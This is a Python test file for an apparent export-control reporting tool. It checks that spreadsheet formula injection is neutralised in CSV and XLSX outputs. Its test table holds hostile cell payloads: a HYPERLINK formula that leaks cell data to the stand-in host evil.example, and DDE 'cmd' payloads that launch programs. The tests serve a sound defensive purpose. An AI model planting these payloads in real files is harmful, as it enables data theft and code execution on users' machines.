"""Cells that a spreadsheet would run as a formula are neutralised in checked.csv and checked.xlsx."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from dualuse.explain.report import ReportRow, neutralise_cell, write_reports
from dualuse.explain.report.neutralise import FORMULA_TRIGGERS
from tests.explain.builders import CountingRows, summarise

# (cell as read from the order book, cell as written to CSV/XLSX)
INJECTION_TABLE = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?q="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?q="&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2", "'-2"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Samarium oxide", "Samarium oxide"),
    ("防衛装備庁", "防衛装備庁"),
    ("＝1+1", "＝1+1"),  # a full-width equals sign is text to every spreadsheet
    ("1C902.a.5", "1C902.a.5"),
    ("a=b", "a=b"),
    ("", ""),
]


@pytest.mark.parametrize(("cell", "written"), INJECTION_TABLE)
def test_neutralise_cell(cell: str, written: str) -> None:
    """A cell starting with = + - @ tab or carriage return gets a leading quote; any other is unchanged."""
    assert neutralise_cell(cell) == written


@given(st.text())
def test_neutralised_cells_never_start_a_formula_and_keep_their_text(cell: str) -> None:
    """Whatever the input, the output cannot start a formula and is the input with at most a quote added."""
    out = neutralise_cell(cell)
    assert not out.startswith(FORMULA_TRIGGERS)
    assert out in (cell, "'" + cell)
    assert neutralise_cell(out) == out


def _hostile_rows(headers: tuple[str, ...]) -> list[ReportRow]:
    rows = []
    for number, (cell, _) in enumerate(INJECTION_TABLE, start=1):
        cells = dict.fromkeys(headers, "")
        cells.update(order_id=f"INJ-{number}", end_user=cell, item_description=cell)
        rows.append(ReportRow(number, cells, None, f"{cell}: not checked"))
    return rows


def test_injection_is_neutralised_in_csv(tmp_path: Path, headers: tuple[str, ...], versions: dict[str, str]) -> None:
    """Echoed input cells and our own error column are neutralised in checked.csv."""
    rows = _hostile_rows(headers)
    files = write_reports(tmp_path, summarise(rows, headers, versions), CountingRows(rows))
    with files.checked_csv.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.DictReader(handle))
    for line, (cell, written) in zip(lines, INJECTION_TABLE, strict=True):
        assert line["end_user"] == written
        assert line["item_description"] == written
        assert line["error"] == neutralise_cell(f"{cell}: not checked")


def test_injection_is_neutralised_in_xlsx(tmp_path: Path, headers: tuple[str, ...], versions: dict[str, str]) -> None:
    """In checked.xlsx every hostile cell is stored as text with the quote, never as a formula.

    Line breaks are stored as line feeds (XML cannot carry a bare carriage return), so "\r=1+1" reads back as
    "'\n=1+1" with every XML parser.
    """
    rows = _hostile_rows(headers)
    summary = summarise(rows, headers, versions, source_format="xlsx")
    files = write_reports(tmp_path, summary, CountingRows(rows))
    assert files.checked_xlsx is not None
    sheet = load_workbook(files.checked_xlsx)["checked"]
    column = headers.index("end_user") + 1
    for number, (_, written) in enumerate(INJECTION_TABLE, start=2):
        cell = sheet.cell(row=number, column=column)
        assert cell.value == (written.replace("\r", "\n") or None)
        if written:
            assert cell.data_type == "s"
